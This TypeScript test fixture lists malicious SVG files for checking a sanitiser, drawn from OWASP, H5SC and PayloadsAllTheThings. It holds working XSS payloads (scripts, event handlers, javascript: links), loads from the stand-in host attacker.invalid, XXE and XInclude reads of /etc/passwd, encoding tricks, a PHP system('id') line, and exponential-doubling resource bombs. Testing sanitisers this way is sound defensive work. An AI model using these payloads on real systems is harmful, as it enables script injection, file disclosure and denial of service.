/**
 * What has been tried against readers of SVG, one file each. `harmless`: taken, and nothing of the attack is left;
 * `refused`: not taken at all. Sources: OWASP's cheat sheet, cure53's H5SC, PayloadsAllTheThings, reports against
 * sanitisers; and drawing programs' own habits as the counterpart (`plain-files.ts`).
 */
export interface SvgAttack {
  readonly name: string;
  readonly file: string | Uint8Array;
  readonly outcome: 'harmless' | 'refused';
}

const open =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">';
/** The files that ask for something ask for it here: a test listens. */
const away = 'http://attacker.invalid/x';
const run = 'window.top.ran=1;document.title=`ran`;alert(1)';

const inside = (name: string, content: string, outcome: SvgAttack['outcome'] = 'harmless'): SvgAttack => ({
  name,
  file: `${open}<rect width="9" height="9"/>${content}</svg>`,
  outcome,
});
const whole = (
  name: string,
  file: string | Uint8Array,
  outcome: SvgAttack['outcome'] = 'refused',
): SvgAttack => ({
  name,
  file,
  outcome,
});
const onRoot = (name: string, attributes: string): SvgAttack =>
  whole(
    name,
    open.replace('viewBox', `${attributes} viewBox`) + '<rect width="9" height="9"/></svg>',
    'harmless',
  );

const scripts: SvgAttack[] = [
  inside('a script', `<script>${run}</script>`),
  inside('a script in CDATA', `<script><![CDATA[${run}]]></script>`),
  inside('a script of a type', `<script type="application/ecmascript">${run}</script>`),
  inside('a module', `<script type="module">${run}</script>`),
  inside('a script from elsewhere by href', `<script href="${away}"/>`),
  inside('a script from elsewhere by xlink:href', `<script xlink:href="${away}"/>`),
  inside('a script from data', `<script href="data:text/javascript,${encodeURIComponent(run)}"/>`),
  inside('a script under a prefix', `<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`),
  inside('a script of HTML', `<script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`),
  inside(
    'a script of HTML under a prefix',
    `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`,
  ),
  inside('a script in upper case', `<SCRIPT>${run}</SCRIPT>`),
  inside('a script in mixed case', `<ScRiPt>${run}</ScRiPt>`),
  inside('a script in a group', `<g><g><g><script>${run}</script></g></g></g>`),
  inside('a script in defs', `<defs><script>${run}</script></defs>`),
  inside('a script in a nested svg', `<svg><script>${run}</script></svg>`),
  inside('a script in a title', `<title><script>${run}</script></title>`),
  inside('a script in a desc', `<desc><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></desc>`),
  inside('a script in a style', `<style><script>${run}</script></style>`),
  inside('a script written with entities', `<script>&#119;indow.top.ran=1;&#97;lert(1)</script>`),
  inside('two scripts, one in the other', `<script><script>${run}</script></script>`),
  inside('a script behind a comment that looks closed', `<!-- > --><script>${run}</script><!-- -->`),
  inside(
    'a handler element',
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler>`,
  ),
  inside('a listener', '<listener event="load" handler="#h" xmlns="http://www.w3.org/2001/xml-events"/>'),
];

const events = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onmouseover',
    'onmousemove',
    'onfocus',
    'onfocusin',
    'onactivate',
    'onbegin',
  ],
  ...[
    'onend',
    'onrepeat',
    'onunload',
    'onresize',
    'onscroll',
    'onzoom',
    'onabort',
    'onwheel',
    'onpointerover',
  ],
  ...[
    'ontoggle',
    'onanimationstart',
    'ontransitionend',
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
  ],
];
const handlers: SvgAttack[] = [
  ...events.map((event) =>
    onRoot(`${event} on the root`, `${event}="${run}" tabindex="1" autofocus="autofocus"`),
  ),
  inside('a handler on a shape', `<rect width="9" height="9" onload="${run}" onclick="${run}"/>`),
  inside('a handler in upper case', `<rect width="9" height="9" ONLOAD="${run}"/>`),
  inside('a handler under a prefix', `<rect xmlns:s="http://www.w3.org/2000/svg" s:onload="${run}"/>`),
  inside('a handler with a line break in it', `<rect onload="window&#10;.top.ran=1"/>`),
  inside('a handler on a gradient', `<linearGradient id="g" onload="${run}"/>`),
  inside('a handler on a title', `<title onload="${run}">x</title>`),
  inside('a handler on a text', `<text onmouseover="${run}">x</text>`),
];

const embedded: SvgAttack[] = [
  inside(
    'HTML',
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject>`,
  ),
  inside(
    'HTML with a frame',
    `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"/></foreignObject>`,
  ),
  inside('HTML without its wrapper', `<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/>`),
  inside('HTML under a prefix', `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/>`),
  inside('a frame', `<iframe src="${away}"/>`),
  inside(
    'a frame of HTML with srcdoc',
    `<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${run}&lt;/script&gt;"/>`,
  ),
  inside('an object', `<object xmlns="http://www.w3.org/1999/xhtml" data="${away}"/>`),
  inside('an embed', `<embed xmlns="http://www.w3.org/1999/xhtml" src="${away}"/>`),
  inside('a form', `<form xmlns="http://www.w3.org/1999/xhtml" action="${away}"><input/></form>`),
  inside(
    'a meta refresh',
    `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${away}"/>`,
  ),
  inside('a base', `<base xmlns="http://www.w3.org/1999/xhtml" href="${away}"/>`),
  inside('a link', `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${away}"/>`),
  inside('a video', `<video xmlns="http://www.w3.org/1999/xhtml" src="${away}" autoplay="autoplay"/>`),
  inside('an audio of SVG', `<audio href="${away}"/>`),
  inside(
    'mathematics',
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction xlink:href="javascript:${run}">x</maction></math>`,
  ),
  inside('a template', `<template xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></template>`),
  inside('metadata', `<metadata><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></metadata>`),
  inside(
    'a switch',
    `<switch><foreignObject><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></foreignObject></switch>`,
  ),
  inside('an element that nobody knows', `<x-y onclick="${run}">x</x-y>`),
  inside(
    'HTML that would break out when read as HTML',
    `<style><!--</style><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${run}"/>--></style>`,
  ),
  inside('markup that hides in an attribute', `<g id="&lt;/svg&gt;&lt;script&gt;${run}&lt;/script&gt;"/>`),
  inside('markup that hides in a text', `<text>&lt;script&gt;${run}&lt;/script&gt;</text>`),
  inside(
    'markup that hides in a style',
    `<style>a{font-family:"&lt;/style&gt;&lt;script&gt;${run}&lt;/script&gt;"}</style>`,
  ),
  inside('markup that hides in a title', `<title>&lt;img src=x onerror=${run}&gt;</title>`),
  inside('markup that hides in CDATA', `<desc><![CDATA[</desc><script>${run}</script>]]></desc>`),
];

const references: SvgAttack[] = [
  inside('a link that runs', `<a href="javascript:${run}"><rect width="9" height="9"/></a>`),
  inside('a link that runs by xlink', `<a xlink:href="javascript:${run}"><rect width="9" height="9"/></a>`),
  inside(
    'a link with a tab in its scheme',
    `<a href="java&#9;script:${run}"><rect width="9" height="9"/></a>`,
  ),
  inside('a link with control characters before it', `<a href=" &#10;javascript:${run}"><text>x</text></a>`),
  inside('a link to data', `<a href="data:text/html,&lt;script&gt;${run}&lt;/script&gt;"><text>x</text></a>`),
  inside('a link elsewhere', `<a href="${away}" target="_top"><text>x</text></a>`),
  inside('an image from elsewhere', `<image href="${away}" width="9" height="9"/>`),
  inside('an image from elsewhere by xlink', `<image xlink:href="${away}" width="9" height="9"/>`),
  inside('an image without a scheme', '<image href="//attacker.invalid/x" width="9" height="9"/>'),
  inside(
    'an image of data',
    `<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${encodeURIComponent(run)}'/%3E"/>`,
  ),
  inside('an image of the file system', '<image href="file:///etc/passwd" width="9" height="9"/>'),
  inside('a use of another file', `<use href="${away}#a"/>`),
  inside(
    'a use of data',
    `<use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3E${encodeURIComponent(run)}%3C/script%3E%3C/svg%3E#x"/>`,
  ),
  inside('a use of itself', '<g id="a"><use href="#a"/><use href="#a"/></g>'),
  inside(
    'a use of a use, doubling',
    `<defs>${doubling('use', 'href', (id) => `#${id}`)}</defs><use href="#n29"/>`,
  ),
  inside('a gradient from elsewhere', `<linearGradient id="g" href="${away}#g"/>`),
  inside('a gradient from elsewhere by xlink', `<linearGradient id="g" xlink:href="${away}#g"/>`),
  inside('a path along another file', `<text><textPath href="${away}#p">x</textPath></text>`),
  inside(
    'a filter that loads',
    `<filter id="f"><feImage href="${away}"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  inside('a filter elsewhere', `<rect filter="url(${away}#f)" width="9" height="9"/>`),
  inside('a fill elsewhere', `<rect fill="url(${away}#f)" width="9" height="9"/>`),
  inside('a fill elsewhere, quoted', `<rect fill="url('${away}#f')" width="9" height="9"/>`),
  inside('a fill elsewhere with an escape', `<rect fill="u\\72l(${away})" width="9" height="9"/>`),
  inside('a fill elsewhere in upper case', `<rect fill="URL(${away})" width="9" height="9"/>`),
  inside('a fill elsewhere after a local one', `<rect fill="url(#a) url(${away})" width="9" height="9"/>`),
  inside('a mask elsewhere', `<rect mask="url(${away}#m)" width="9" height="9"/>`),
  inside('a clip elsewhere', `<rect clip-path="url(${away}#c)" width="9" height="9"/>`),
  inside('a marker elsewhere', `<path d="M0 0L9 9" marker-end="url(${away}#m)"/>`),
  inside('a cursor elsewhere', `<rect cursor="url(${away}),auto" width="9" height="9"/>`),
  inside('a tref', `<text><tref href="${away}#t"/></text>`),
  inside(
    'a font from elsewhere',
    `<font-face><font-face-src><font-face-uri href="${away}"/></font-face-src></font-face>`,
  ),
  inside(
    'an include',
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
  ),
  onRoot('a base of the root', `xml:base="${away}"`),
  onRoot(
    'a place of a schema',
    `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${away} ${away}"`,
  ),
];

const animations: SvgAttack[] = [
  inside(
    'an animation of a link',
    `<a><animate attributeName="href" values="javascript:${run}"/><rect width="9" height="9"/></a>`,
  ),
  inside(
    'an animation of a link elsewhere in the file',
    `<a id="x"><text>x</text></a><animate href="#x" attributeName="href" to="javascript:${run}"/>`,
  ),
  inside('a set of a handler', `<set attributeName="onmouseover" to="${run}"/>`),
  inside('a set of a link by xlink', `<a><set attributeName="xlink:href" to="javascript:${run}"/></a>`),
  inside('an animation with a handler', `<animate attributeName="x" onbegin="${run}" dur="1s"/>`),
  inside('an animation with a handler at its end', `<animate attributeName="x" onend="${run}" dur="1ms"/>`),
  inside('a transformation with a handler', `<animateTransform onbegin="${run}" attributeName="transform"/>`),
  inside('a motion with a handler', `<animateMotion onbegin="${run}" path="M0 0"/>`),
  inside('a motion along another file', `<animateMotion><mpath href="${away}#p"/></animateMotion>`),
  inside('a discard', '<discard begin="0s" href="#x"/>'),
];

const css: SvgAttack[] = [
  inside('an import', `<style>@import url(${away});</style>`),
  inside('an import as a string', `<style>@import "${away}";</style>`),
  inside('an import with an escape', `<style>@\\69mport "${away}";</style>`),
  inside('an import in CDATA', `<style><![CDATA[@import "${away}";]]></style>`),
  inside(
    'a font face',
    `<style>@font-face{font-family:x;src:url(${away})}text{font-family:x}</style><text>x</text>`,
  ),
  inside('a background', `<style>rect{background:url(${away})}</style>`),
  inside('a fill', `<style>rect{fill:url(${away})}</style>`),
  inside('a fill with an escape', `<style>rect{fill:u\\72l(${away})}</style>`),
  inside('a fill with a comment in it', `<style>rect{fill:url/**/(${away})}</style>`),
  inside('a set of images', `<style>rect{mask-image:image-set("${away}" 1x)}</style>`),
  inside('a mask', `<style>rect{mask:url(${away})}</style>`),
  inside('a cursor', `<style>rect{cursor:url(${away}),auto}</style>`),
  inside('a content', `<style>svg::before{content:url(${away})}</style>`),
  inside('a custom property', `<style>svg{--u:url(${away})}rect{fill:var(--u)}</style>`),
  inside('a rule for media', `<style>@media all{rect{fill:url(${away})}}</style>`),
  inside('a rule in a rule', `<style>svg{rect{fill:url(${away})}}</style>`),
  inside('a namespace', `<style>@namespace x url(${away});</style>`),
  inside('a selector that reads attributes', `<style>rect[width^="9"]{fill:url(${away})}</style>`),
  inside('an expression', `<style>rect{width:expression(${run})}</style>`),
  inside('a binding', `<style>rect{-moz-binding:url(${away}#x)}</style>`),
  inside('a behaviour', `<style>rect{behavior:url(${away})}</style>`),
  inside('a style of an element', `<rect style="fill:url(${away})" width="9" height="9"/>`),
  inside(
    'a style of an element with an escape',
    `<rect style="fill:\\75\\72\\6c(${away})" width="9" height="9"/>`,
  ),
  inside(
    'a style of an element with entities',
    `<rect style="fill:&#117;rl(${away})" width="9" height="9"/>`,
  ),
  inside(
    'a style that covers the page',
    '<style>svg{position:fixed;inset:0;z-index:9999;width:100vw}</style>',
  ),
  inside('a style that is no CSS', '<style>}}}{{{ &lt;!-- </style>'),
  inside('a style sheet of another type', `<style type="text/less">@import "${away}";</style>`),
  whole(
    'a style sheet beside the root',
    `<?xml-stylesheet href="${away}"?>${open}<rect width="9" height="9"/></svg>`,
    'harmless',
  ),
  whole(
    'a transformation beside the root',
    `<?xml-stylesheet type="text/xsl" href="${away}"?>${open}<rect/></svg>`,
    'harmless',
  ),
  inside('an instruction inside', '<?php system("id"); ?><?xml-stylesheet href="x"?>'),
];

const documents: SvgAttack[] = [
  whole(
    'entities that grow',
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>${open}<text>&b;</text></svg>`,
  ),
  whole(
    'an entity of the file system',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${open}<text>&x;</text></svg>`,
  ),
  whole('an entity from elsewhere', `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${away}"> %x;]>${open}</svg>`),
  whole(
    'an attribute by a document type',
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${run}">]>${open}</svg>`,
  ),
  whole('a document type in small letters', `<!doctype svg [<!entity x "y">]>${open}</svg>`),
  whole(
    'an external document type',
    `<!DOCTYPE svg SYSTEM "${away}">${open}<rect width="9" height="9"/></svg>`,
    'harmless',
  ),
  whole(
    'UTF-16, little end first',
    new Uint8Array(
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(`${open}<script>${run}</script></svg>`, 'utf16le'),
      ]),
    ),
  ),
  whole(
    'UTF-16, big end first',
    new Uint8Array(
      Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(`${open}</svg>`, 'utf16le').swap16()]),
    ),
  ),
  whole('UTF-16 without its mark', new Uint8Array(Buffer.from(`${open}</svg>`, 'utf16le'))),
  whole(
    'UTF-7 by its name',
    `<?xml version="1.0" encoding="UTF-7"?>${open}+ADw-script+AD4-${run}+ADw-/script+AD4-</svg>`,
  ),
  whole('UTF-16 by its name', `<?xml version="1.0" encoding="UTF-16"?>${open}</svg>`),
  whole('ISO-2022-JP by its name', `<?xml version='1.0' encoding='ISO-2022-JP'?>${open}</svg>`),
  whole(
    'bytes that are no UTF-8',
    new Uint8Array(Buffer.concat([Buffer.from(open), Buffer.from([0xc0, 0xbc]), Buffer.from('</svg>')])),
  ),
  whole(
    'an overlong form of a bracket',
    new Uint8Array(
      Buffer.concat([
        Buffer.from(`${open}<text>`),
        Buffer.from([0xc0, 0xbc, 0x73]),
        Buffer.from('</text></svg>'),
      ]),
    ),
  ),
  whole('a NUL in a name', `${open}<scr\0ipt>${run}</scr\0ipt></svg>`),
  whole(
    'a mark of byte order',
    `\ufeff${open}<script>${run}</script><rect width="9" height="9"/></svg>`,
    'harmless',
  ),
  whole('HTML by itself', `<!doctype html><script>${run}</script>`),
  whole('HTML after the root', `${open}</svg><script>${run}</script>`),
  whole('two roots', `${open}</svg>${open}</svg>`),
  whole('a root without its namespace', `<svg><script>${run}</script></svg>`),
  whole(
    'a root of another namespace',
    `<svg xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></svg>`,
  ),
  whole(
    'a root under a prefix',
    `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${run}</s:script></s:svg>`,
  ),
  whole('a page as the root', `<html xmlns="http://www.w3.org/1999/xhtml"><body onload="${run}"/></html>`),
  whole('a script as the root', `<script xmlns="http://www.w3.org/2000/svg">${run}</script>`),
  whole('an end that is missing', `${open}<script>${run}`),
  whole('nothing', ''),
  whole('spaces', '   \n'),
  whole('JSON', '{"svg": true}'),
  whole('a PNG', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])),
  whole('gzip', new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0])),
  whole('a hundred thousand elements', `${open}${'<g/>'.repeat(100_000)}</svg>`),
  whole('a hundred levels', `${open}${'<g>'.repeat(100)}${'</g>'.repeat(100)}</svg>`),
  whole('an attribute twice', `<svg xmlns="http://www.w3.org/2000/svg" id="a" id="b"></svg>`),
  inside(
    'masks of masks, doubling',
    `<defs>${doubling('rect', 'mask', (id) => `url(#${id})`, 'mask')}</defs><rect mask="url(#n29)" width="9" height="9"/>`,
  ),
  inside(
    'clips of clips, doubling',
    `<defs>${doubling('rect', 'clip-path', (id) => `url(#${id})`, 'clipPath')}</defs><rect clip-path="url(#n29)" width="9" height="9"/>`,
  ),
  inside(
    'patterns of patterns, doubling',
    `<defs>${doubling('rect', 'fill', (id) => `url(#${id})`, 'pattern')}</defs><rect fill="url(#n29)" width="9" height="9"/>`,
  ),
  inside(
    'names that clobber a document',
    '<g id="body"/><g id="attributes"/><g id="parentNode"/><g id="nodeName"/>',
  ),
  inside('data attributes', `<rect data-x="${run}" aria-label="${run}" width="9" height="9"/>`),
];

export const svgAttacks: readonly SvgAttack[] = [
  ...scripts,
  ...handlers,
  ...embedded,
  ...references,
  ...animations,
  ...css,
  ...documents,
];

/** Thirty levels, each of which draws the one below it twice: a billion from two kilobytes. */
function doubling(element: string, attribute: string, refer: (id: string) => string, holder = 'g'): string {
  return Array.from({ length: 30 }, (_, level) => {
    const reference = level === 0 ? '' : ` ${attribute}="${refer(`n${level - 1}`)}"`;
    const one = `<${element}${reference} width="9" height="9"/>`;
    return `<${holder} id="n${level}">${one}${one}</${holder}>`;
  }).join('');
}
